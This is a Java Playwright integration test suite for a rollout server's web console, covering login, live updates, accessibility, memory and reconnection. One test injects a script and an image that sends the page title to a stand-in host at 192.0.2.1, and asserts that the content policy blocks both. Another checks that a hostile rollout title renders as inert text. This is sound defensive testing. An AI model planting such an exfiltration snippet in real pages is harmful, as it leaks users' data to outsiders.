package dev.tidegate.server.console;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.deque.html.axecore.playwright.AxeBuilder;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.CDPSession;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.ColorScheme;
import com.microsoft.playwright.options.SameSiteAttribute;
import dev.tidegate.flags.Json;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The console in a real browser, on a real server that a service reports to. */
class ConsoleIT {
  private static final int WIDE = 1280;
  private static final int TALL = 900;
  private static final double PATIENCE = 60_000;

  @TempDir static Path folder;
  private static Browser browser;
  private static Scene scene;

  @BeforeAll
  static void begin() {
    browser = Browser.start();
    scene = Scene.on(folder);
  }

  @AfterAll
  static void end() {
    if (scene != null) {
      scene.close();
    }
    if (browser != null) {
      browser.close();
    }
  }

  /** What the browser itself notes about a page that is refused, or is not there. */
  private static final String REFUSED = ".*status of 40[14] .*/(login|nowhere):.*";

  /** Pages ask nobody but their server, and nothing goes wrong in them. */
  @AfterEach
  void nothingWentWrong() {
    assertThat(browser.complaints()).allMatch(text -> text.matches(REFUSED));
    assertThat(browser.origins())
        .allMatch(origin -> origin.matches("http://(127\\.0\\.0\\.1|localhost):[0-9]+"));
  }

  private static BrowserContext window() {
    return browser.window(ColorScheme.LIGHT, WIDE, TALL);
  }

  private static Page loggedIn(BrowserContext window, String path) {
    return loggedIn(window, scene.rig, scene.rig.secret(), path);
  }

  private static Page loggedIn(BrowserContext window, Rig rig, String secret, String path) {
    var page = window.newPage();
    page.setDefaultTimeout(PATIENCE);
    page.navigate(rig.url() + path);
    if (page.url().contains("/login")) {
      page.fill("#token", secret);
      page.keyboard().press("Enter");
    }
    assertThat(page.locator("#link")).hasAttribute("data-state", "on", attribute());
    return page;
  }

  private static LocatorAssertions.HasAttributeOptions attribute() {
    return new LocatorAssertions.HasAttributeOptions().setTimeout(PATIENCE);
  }

  private static LocatorAssertions.ContainsTextOptions text() {
    return new LocatorAssertions.ContainsTextOptions().setTimeout(PATIENCE);
  }

  @Test
  void theKeyboardAloneIsEnoughToBeRefusedAndToLogIn() {
    try (var window = window()) {
      var page = window.newPage();
      page.navigate(scene.rig.url() + "/rollouts/ro-rank");
      assertThat(page.locator("#token")).isFocused();
      page.keyboard().type("tg_op-nobody_nothing");
      page.keyboard().press("Enter");
      assertThat(page.getByRole(AriaRole.ALERT)).hasText("this token is not known here");
      assertThat(page.locator("#token")).isFocused();
      page.keyboard().type(scene.rig.secret());
      page.keyboard().press("Tab");
      assertThat(page.getByRole(AriaRole.BUTTON)).isFocused();
      page.keyboard().press("Enter");
      page.waitForURL(scene.rig.url() + "/rollouts/ro-rank");
      var cookie = window.cookies().getFirst();
      assertThat(cookie.httpOnly).isTrue();
      assertThat(cookie.sameSite).isEqualTo(SameSiteAttribute.STRICT);
      page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("log out")).click();
      page.waitForURL(scene.rig.url() + "/login");
      page.navigate(scene.rig.url() + "/");
      assertThat(page).hasURL(scene.rig.url() + "/login");
    }
  }

  @Test
  void theLadderTheChartsAndTheReasonsMoveWithoutAReload() {
    try (var window = window()) {
      var page = loggedIn(window, "/");
      page.evaluate("window.sameDocument = true");
      scene.begin("tax-table", "chg-tax", "ro-tax", "Read tax rates from a table");
      var card = page.locator("#rollout-ro-tax");
      var now = card.locator("[aria-current=step]");
      assertThat(now).containsText(Pattern.compile("internal|opted-in|1 %"), text());
      var line = card.locator("#rollout-ro-tax-errors path.line.candidate").last();
      line.waitFor(new Locator.WaitForOptions().setTimeout(PATIENCE).setState(attached()));
      var before = line.getAttribute("d");
      var more = card.locator(".waits details.met");
      more.locator("summary").click();
      more.locator("summary").focus();
      page.evaluate("window.scrollTo(0, 300)");
      assertThat(now).containsText("10 %", text());
      assertThat(line).not().hasAttribute("d", before, attribute());
      assertThat(more).hasAttribute("open", "");
      assertThat(more.locator("summary")).isFocused();
      assertThat(page.evaluate("window.scrollY")).isEqualTo(300);

      var detail = loggedIn(window, "/rollouts/ro-tax");
      scene.service.fails("ro-tax", .25);
      assertThat(detail.locator(".reasons")).containsText("worse than the control", text());
      assertThat(detail.locator(".badge").first()).containsText("withdrawn", text());
      assertThat(detail.locator("#story")).containsText("is withdrawn (judge)");
      var row = page.locator("#glance-ro-tax");
      assertThat(row).containsText("withdrawn", text());
      assertThat(row).containsText("nobody");
      assertThat(row).containsText("worse than the control");
      var ended = page.locator("#ended-ro-tax");
      assertThat(ended).containsText("the judge found it harmful", text());
      assertThat(card).hasCount(0);
      var why = page.locator("#happened .entry.bad details").first();
      why.locator("summary").click();
      assertThat(why).containsText("worse than the control");
      assertThat(page.evaluate("window.sameDocument")).isEqualTo(true);
      assertThat(detail.locator(".step.fell")).containsText("10 %");
      Browser.picture(detail, "withdrawn-light-1280");
    }
  }

  private static com.microsoft.playwright.options.WaitForSelectorState attached() {
    return com.microsoft.playwright.options.WaitForSelectorState.ATTACHED;
  }

  @Test
  void whatPeopleWroteIsTextAndNothingElse() {
    try (var window = window()) {
      var dialogs = new ArrayList<String>();
      var page = loggedIn(window, "/");
      page.onDialog(
          dialog -> {
            dialogs.add(dialog.message());
            dialog.dismiss();
          });
      assertThat(page.locator("#rollout-ro-rank-title")).hasText(Scene.HOSTILE);
      assertThat(page.locator("#rollout-ro-rank .reasons")).containsText("<b>waits</b>");
      page.navigate(scene.rig.url() + "/rollouts/ro-rank");
      assertThat(page).hasTitle(Scene.HOSTILE + " · Tidegate");
      assertThat(page.locator("main script, main img, main b b")).hasCount(0);
      assertThat(dialogs).isEmpty();
    }
  }

  @Test
  void everythingIsReachedByTheKeyboard() {
    try (var window = window()) {
      var page = loggedIn(window, "/");
      var reached = new ArrayList<String>();
      for (int i = 0; i < 30; i++) {
        page.keyboard().press("Tab");
        reached.add(
            String.valueOf(
                page.evaluate("document.activeElement.textContent.replace(/\\s+/g, ' ').trim()")));
      }
      assertThat(reached)
          .startsWith("skip to the content", "Tidegate")
          .containsSubsequence("rollouts", "flags", "channels", "advice", "log out")
          .contains(Scene.HOSTILE, "Look prices up in one query instead of twelve")
          .anyMatch(text -> text.endsWith("conditions hold"));
    }
  }

  @ParameterizedTest
  @CsvSource({"LIGHT, 1280", "DARK, 1280", "LIGHT, 390", "DARK, 390"})
  void nothingIsInaccessibleAndNothingLeavesTheWindow(ColorScheme scheme, int width) {
    try (var window = browser.window(scheme, width, TALL)) {
      var name = "-" + scheme.name().toLowerCase(Locale.ROOT) + "-" + width;
      var page = window.newPage();
      page.navigate(scene.rig.url() + "/");
      page.fill("#token", "wrong");
      page.keyboard().press("Enter");
      page.getByRole(AriaRole.ALERT).waitFor();
      assertFits(page, "refused" + name);
      page.navigate(scene.rig.url() + "/nowhere");
      assertFits(page, "missing" + name);
      page.close();
      var overview = loggedIn(window, "/");
      assertFits(overview, "overview" + name);
      overview.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)");
      boolean looksAtEachOnce = (scheme == ColorScheme.LIGHT) == (width == WIDE);
      if (looksAtEachOnce) {
        assertAccessible(overview);
      }
      assertFits(loggedIn(window, "/rollouts/ro-basket"), "fallen" + name);
      var rollout = loggedIn(window, "/rollouts/ro-price");
      assertFits(rollout, "rollout" + name);
      if (looksAtEachOnce) {
        assertAccessible(rollout);
      }
    }
  }

  @Test
  void theLoginAndThePageOfAnErrorAreAccessible() {
    try (var window = window()) {
      var page = window.newPage();
      page.navigate(scene.rig.url() + "/login?ended=yes&next=%2F");
      assertThat(page.getByRole(AriaRole.ALERT)).containsText("your session has ended");
      assertAccessible(page);
      page.navigate(scene.rig.url() + "/nowhere");
      assertAccessible(page);
    }
  }

  private static void assertFits(Page page, String name) {
    Browser.picture(page, name);
    assertThat(page.evaluate("document.documentElement.scrollWidth - innerWidth"))
        .as(name + " is wider than its window")
        .isEqualTo(0);
  }

  private static void assertAccessible(Page page) {
    var found = new AxeBuilder(page).analyze().getViolations();
    assertThat(found.stream().map(rule -> rule.getId() + ": " + rule.getNodes()).toList())
        .as(page.url())
        .isEmpty();
  }

  @Test
  void aScriptThatFindsItsWayIntoAPageDoesNotRun() {
    try (var window = window()) {
      var page = loggedIn(window, "/");
      page.evaluate(
          """
          () => {
            const script = document.createElement('script');
            script.textContent = 'window.ran = true';
            document.body.append(script);
            const image = document.createElement('img');
            image.src = 'http://192.0.2.1/stolen?' + document.title;
            document.body.append(image);
          }
          """);
      assertThat(page.evaluate("window.ran")).isNull();
      assertThat(browser.complaints()).hasSize(2).allMatch(text -> text.contains("violates"));
      browser.origins(); // what the policy refused may be among what was asked for
    }
  }

  @Test
  void aLinkFromElsewhereFindsTheSessionAgain() {
    try (var window = window()) {
      loggedIn(window, "/").close();
      var page = window.newPage();
      page.navigate("http://localhost:" + scene.rig.port() + "/login"); // another site
      page.evaluate("url => location.href = url", scene.rig.url() + "/rollouts/ro-rank");
      page.waitForURL(scene.rig.url() + "/rollouts/ro-rank");
      assertThat(page.locator("h1")).hasText(Scene.HOSTILE);
    }
  }

  @Test
  void aRevokedTokenEndsTheSessionOfAnOpenPage() {
    try (var window = window()) {
      var secret = scene.rig.token("operator", "lena");
      var page = loggedIn(window, scene.rig, secret, "/");
      assertThat(page.locator("#status")).containsText("lena");
      scene.rig.delete("/api/v1/tokens/" + List.of(secret.split("_", 3)).get(1));
      page.waitForURL(Pattern.compile(".*/login\\?ended=yes&next=%2F"));
      assertThat(page.getByRole(AriaRole.ALERT)).containsText("your session has ended");
      page.fill("#token", secret);
      page.keyboard().press("Enter");
      assertThat(page.getByRole(AriaRole.ALERT)).containsText("was revoked");
    }
  }

  @Test
  void anHourOfNewsLeavesThePageAsLargeAsItWas() {
    try (var window = window()) {
      var page = loggedIn(window, "/rollouts/ro-price");
      var news =
          twentyMinutes((String) page.evaluate("document.getElementById('detail').outerHTML"));
      var times = new AtomicInteger();
      page.route(
          "**/console/events*",
          route -> {
            times.incrementAndGet();
            var answer = new Route.FulfillOptions().setContentType("text/event-stream");
            route.fulfill(answer.setBody(news));
          });
      page.reload();
      page.waitForCondition(() -> times.get() == 2);
      var counters = window.newCDPSession(page);
      long once = nodes(counters);
      page.waitForCondition(() -> times.get() == 4);
      assertThat(page.locator("#detail")).containsText("119 %");
      assertThat(nodes(counters)).isLessThan(once + once / 2);
    }
  }

  /** What comes of it when windows take ten seconds. */
  private static String twentyMinutes(String detail) {
    var news = new StringBuilder();
    for (int i = 0; i < 120; i++) {
      var html = Json.of(detail.replace("10 %", i + " %"));
      var fragment = new Json.Obj(Map.of("id", Json.of("detail"), "html", html));
      news.append("event: fragment\ndata: ").append(fragment.text()).append("\n\n");
    }
    return news.toString();
  }

  /** How many nodes of documents there are, the ones that nobody needs any more cleared away. */
  private static long nodes(CDPSession session) {
    session.send("HeapProfiler.collectGarbage");
    return session.send("Memory.getDOMCounters").get("nodes").getAsLong();
  }

  @Test
  void aLostServerIsSaidAndAfterItsRestartThePageIsLiveAgain(@TempDir Path other) {
    try (var window = window()) {
      Page page;
      int port;
      try (var rig = Rig.on(other)) {
        port = rig.port();
        page = loggedIn(window, rig, rig.secret(), "/");
        page.evaluate("window.sameDocument = true");
      }
      assertThat(page.locator("#link")).containsText("not connected", text());
      assertThat(page.locator("body")).hasAttribute("data-link", "off");
      assertFits(page, "lost-light-1280");
      try (var rig = Rig.on(other, port)) {
        assertThat(page.locator("#link")).hasAttribute("data-state", "on", attribute());
        rig.flag("new-flag", "default/production");
        assertThat(page.locator("#happened")).containsText("new-flag", text());
        assertThat(page.evaluate("window.sameDocument")).isEqualTo(true);
      }
    }
    // the browser itself notes each request that nobody answered
    assertThat(browser.complaints()).allMatch(text -> text.contains("net::ERR_"));
  }
}
